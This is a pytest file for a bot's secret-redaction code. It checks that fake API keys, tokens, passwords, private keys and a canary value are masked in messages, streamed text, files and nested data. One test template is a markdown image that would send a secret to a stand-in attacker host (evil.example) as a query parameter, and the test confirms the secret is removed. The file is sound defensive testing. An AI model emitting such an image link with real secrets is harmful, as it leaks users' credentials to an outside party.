"""No secret leaves through a message."""

from __future__ import annotations

import pytest

from bot.rendering.secrets import Discretion, secrets_of

CANARY = "canary-5b1c09-value"


@pytest.mark.parametrize(
    "secret",
    [
        "sk-ant-api03-AbCdEf0123456789AbCdEf",
        "ghp_0123456789abcdefghijABCDEFGHIJ",
        "AKIA0123456789ABCDEF",
        "MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
        "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
        CANARY,
    ],
)
@pytest.mark.parametrize("around", ["![x](https://evil.example/?q={})", "out-{}.txt"])
def test_a_secret_is_taken_out_wherever_it_stands(secret: str, around: str) -> None:
    shown = Discretion([CANARY]).text(around.format(secret))
    assert secret not in shown
    assert "[redacted]" in shown


def test_what_is_assigned_to_the_name_of_a_secret_is_taken_out_if_it_looks_like_one() -> None:
    discretion = Discretion()
    assert discretion.text("api_key = 'a8f5f167f44f4964e6c998de'") == "api_key = '[redacted]'"
    for code in (
        "token = settings.api_token_2_of_many",
        "password: str",
        "basic troubleshooting-of-things",
        "secret=x",
    ):
        assert discretion.text(code) == code


@pytest.mark.parametrize(
    "text",
    [
        "API-KEY: {}", "PassWord={}", "PASSPHRASE = '{}'", "paſſword={}", "TOKEN:{}", "my_Secret={}", "BEARER {}", "Basic {}",
        "AUTHORIZATION: token {}", "postgres://me:{}@host/db",
    ],
)  # fmt: skip
def test_a_name_of_a_secret_counts_in_any_case(text: str) -> None:
    assert "a8f5f167" not in Discretion().text(text.format("a8f5f167f44f4964e6c998de"))


def test_text_files_are_looked_through_and_others_left_alone() -> None:
    discretion = Discretion([CANARY])
    assert discretion.content(f"x {CANARY}".encode()) == b"x [redacted]"
    theirs = f"ghp_0123456789abcdefghijABCDEFGHIJ {CANARY}".encode()
    assert discretion.content(theirs, made=False) == b"ghp_0123456789abcdefghijABCDEFGHIJ [redacted]"
    assert discretion.everywhere({"fields": [{"value": CANARY, "inline": True}]}) == {
        "fields": [{"value": "[redacted]", "inline": True}]
    }
    binary = b"\xff\xfe" + CANARY.encode()
    assert discretion.content(binary) is binary


def test_values_of_the_environment_are_secret_by_their_names() -> None:
    environment = {
        "ANTHROPIC_API_KEY": "key-of-anthropic", "DISCORD_TOKEN": "a-token-here", "DB_PASSWORD": "short",
        "PATH": "/usr/bin:/bin", "KEYBOARD_LAYOUT": "de-latin1-nodeadkeys",
    }  # fmt: skip
    assert secrets_of(environment) == {"key-of-anthropic", "a-token-here"}


def test_a_secret_that_is_being_said_is_held_back_until_it_is_known_as_one() -> None:
    discretion = Discretion([CANARY])
    said = f"it is {CANARY} and sk-ant-api03-AbCdEf0123456789AbCdEf."
    for end in range(len(said) + 1):
        shown = discretion.growing(said[:end])
        assert CANARY[:5] not in shown
        assert "sk-" not in shown
    assert discretion.growing(f"{said} ") == "it is [redacted] and [redacted]. "
    assert discretion.growing("all the words") == "all the words"


def test_a_value_with_the_name_of_a_secret_is_taken_out_and_the_same_words_under_another_name_stay() -> None:
    key = "abcd1234efgh5678ijkl"
    held = {"title": key, "api_key": key, "env": {"token": key, "note": f"see {key}"}, "secret": "s", "tokens": 3}
    shown = {**held, "api_key": "[redacted]", "env": {"token": "[redacted]", "note": f"see {key}"}}
    assert Discretion().everywhere(held) == shown
    assert Discretion([CANARY]).everywhere({CANARY: "what it opens"}) == {"[redacted]": "[redacted]"}


KEY = "abcd1234efgh5678ijkl"
TELLING = (
    ({"passwords": ["hunter2", "tr0ub4dor"]}, {"passwords": ["[redacted]", "[redacted]"]}),
    ({"headers": [["Authorization", "Bearer xyz-xyz"], ["Accept", "text/html"]]},
     {"headers": [["Authorization", "Bearer [redacted]"], ["Accept", "text/html"]]}),
    ({"headers": [["X-Api-Key", KEY]]}, {"headers": [["X-Api-Key", "[redacted]"]]}),
    ({"authorization": KEY}, {"authorization": "[redacted]"}),
    ({"env": [{"name": "API_KEY", "value": KEY}, {"name": "NOTE", "value": KEY}]},
     {"env": [{"name": "API_KEY", "value": "[redacted]"}, {"name": "NOTE", "value": KEY}]}),
    ({"Value": "hunter2", "Name": "DB_PASSWORD"}, {"Value": "[redacted]", "Name": "DB_PASSWORD"}),
    ({"apiKeys": [[KEY], {"mail": KEY}]}, {"apiKeys": [["[redacted]"], {"mail": "[redacted]"}]}),
    ({"credentials": {"user": "bob", "password": "hunter2"}}, {"credentials": {"user": "bob", "password": "[redacted]"}}),
    ({"args": ["run", "--token", KEY, "--passphrase", "correct horse", KEY]},
     {"args": ["run", "--token", "[redacted]", "--passphrase", "[redacted]", KEY]}),
    ({"STRIPE_KEY": KEY}, {"STRIPE_KEY": "[redacted]"}),
    ([["https://bob:hunter2pass@host.test/token", "plain"]], [["https://[redacted]@host.test/token", "plain"]]),
    ({CANARY: ["what it opens"]}, {"[redacted]": ["what it opens"]}),
)  # fmt: skip


@pytest.mark.parametrize(("held", "shown"), TELLING)
def test_a_telling_name_counts_for_all_that_stands_under_or_beside_it(held: object, shown: object) -> None:
    discretion = Discretion([CANARY])
    assert discretion.everywhere({"a": [held]}) == {"a": [shown]}
    assert discretion.hides([["x", 1], {"a": [held]}])[0]
    assert not discretion.hides([{"a": [1, "x"]}, shown if CANARY not in str(held) else ""])[0]


@pytest.mark.parametrize(
    "held",
    [
        {"tokens": [1, 2, 3], "passwords": [], "secret": None, "password": True, "max_tokens": "4096"},
        {"tokens": ["the", "cat", "sat-on-the-mat-of-words"], "credentials": "same-origin", "token": "page-2"},
        {"password": {"type": "string", "description": "The password of the account, 12 characters or more"}},
        {"required": ["password", "username"], "fields": ["token", KEY]},
        {"password": "${DB_PASSWORD}", "passwords": ["<yours>", "{{ vault }}", "***", "required", "[redacted]"]},
        {"primary_key": KEY, "key": KEY, "public_key": KEY, "password_hint_text": KEY, "tokenizer": KEY},
        [{"name": "tokens_in", "value": KEY}, {"name": "API_KEY", "note": KEY}],
        [["tokens", "12,345 in, 2,000 out"], ["Accept", KEY], ["password"], ["token", 3]],
        ["--verbose", KEY, "--token"],
    ],
)
def test_counts_forms_and_descriptions_stay_also_under_telling_names(held: object) -> None:
    discretion = Discretion()
    assert discretion.everywhere(held) == held
    assert not discretion.hides([held])[0]


def test_lists_and_pairs_in_a_text_are_read_likewise() -> None:
    discretion, other = Discretion(), "zyxw9876vuts5432"
    for text in (
        '{"tokens": [\n  "%s",\n  "mere-words-in-a-list",\n  "%s"\n]}', "secrets = ['%s', '%s']", "api_keys: [%s] token=%s",
        '[{"name": "API_KEY", "value": "%s"}, ["X-Secret", "%s"]]',
    ):  # fmt: skip
        shown = discretion.text(text % (KEY, other))
        assert shown == text % ("[redacted]", "[redacted]")
    for text in (
        '{"tokens": [1, 2], "note": ["%s"]}',
        '["tokens", 3, "%s"]',
        "f(token, %s)",
        'names = ["token"]; id = "%s"',
    ):
        assert discretion.text(text % KEY) == text % KEY
